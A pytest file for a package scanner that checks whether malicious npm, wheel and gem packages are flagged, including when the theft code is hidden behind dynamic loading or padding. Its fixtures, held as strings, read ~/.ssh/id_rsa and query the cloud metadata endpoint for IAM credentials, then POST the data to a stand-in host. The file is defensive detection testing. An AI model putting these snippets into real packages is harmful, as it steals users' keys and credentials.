"""What an attacker may write around a theft excuses it nowhere: names of folders, blank lines, long comments. Nothing here runs."""

from collections.abc import Callable

import pytest

from pratique.analysis.job import Done
from pratique.core.finding import Severity
from tests.analysis.inspecting import gem, npm, package_json, wheel

_HELPER = (
    "const fs = require('fs'); const os = require('os'); const https = require('https');\n"
    "const r = https.request('https://collect.invalid/v1', { method: 'POST' });\n"
    "r.write(fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'));\nr.end();\n"
)
_MODULE = (
    "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
    "urllib.request.urlopen('https://collect.invalid/v1', data=key)\n"
)
_RUBY = (
    "require 'net/http'\n"
    "Net::HTTP.post(URI('https://collect.invalid/v1'), File.read(File.expand_path('~/.ssh/id_rsa')))\n"
)
_FOLDERS = ("other", "test", "spec", "docs", "examples", "fixtures", "benchmark")


def _computed(folder: str) -> Done:
    return npm({"index.js": "require('./' + process.env.npm_x + '/a');\n", f"{folder}/a.js": _HELPER})


def _listed(folder: str) -> Done:
    code = (
        "const fs = require('fs');\nfor (const f of fs.readdirSync(__dirname)) require('./' + f + '/a.js');\n"
    )
    return npm({"index.js": code, f"{folder}/a.js": _HELPER})


def _walked(folder: str) -> Done:
    code = "import pkgutil\nfor m in pkgutil.walk_packages(__path__, 'kite.'):\n    __import__(m.name)\n"
    return wheel({"kite/__init__.py": code, f"kite/{folder}/__init__.py": "", f"kite/{folder}/a.py": _MODULE})


def _imported(folder: str) -> Done:
    code = "import importlib, os\nfor n in os.listdir('kite'):\n    importlib.import_module('kite.' + n + '.a')\n"
    return wheel({"kite/__init__.py": code, f"kite/{folder}/a.py": _MODULE})


def _globbed(folder: str) -> Done:
    code = "Dir[File.join(__dir__, '**', '*.rb')].each { |f| require f }\n"
    return gem({"lib/sample.rb": code, f"lib/{folder}/a.rb": _RUBY})


def held(done: Done) -> bool:
    assert () == done.inspection.failed
    return any(finding.severity is Severity.CRITICAL for finding in done.inspection.findings)


@pytest.mark.parametrize("folder", _FOLDERS)
@pytest.mark.parametrize("make", [_computed, _listed, _walked, _imported, _globbed])
def test_the_name_of_a_folder_hides_nothing_from_code_that_loads_by_a_pattern(
    make: Callable[[str], Done], folder: str
) -> None:
    assert held(make(folder))


_ASKS = (
    "require('http').get('http://169.254.169.254/latest/meta-data/iam/', (a) => require('./held').set(a));\n"
    "const u = require('os').userInfo().username;\n"
)
_SENDS = (
    "const r = require('https').request('https://collect.invalid/v1', { method: 'POST' });\n"
    "r.write(require('./held').get());\nr.end();\n"
)


@pytest.mark.parametrize(
    "between",
    ["", "\n" * 300, f"// {'x' * 6_000}\n", f"const words = '{'lorem ' * 1_000}';\n"],
    ids=["nothing", "blank lines", "a long comment", "a long text"],
)
def test_padding_moves_the_parts_of_a_theft_not_apart(between: str) -> None:
    manifest = package_json(scripts={"postinstall": "node setup.js"})
    kept = "let v; exports.set = (x) => { v = x; }; exports.get = () => v;\n"
    assert held(npm({"package.json": manifest, "setup.js": _ASKS + between + _SENDS, "held.js": kept}))
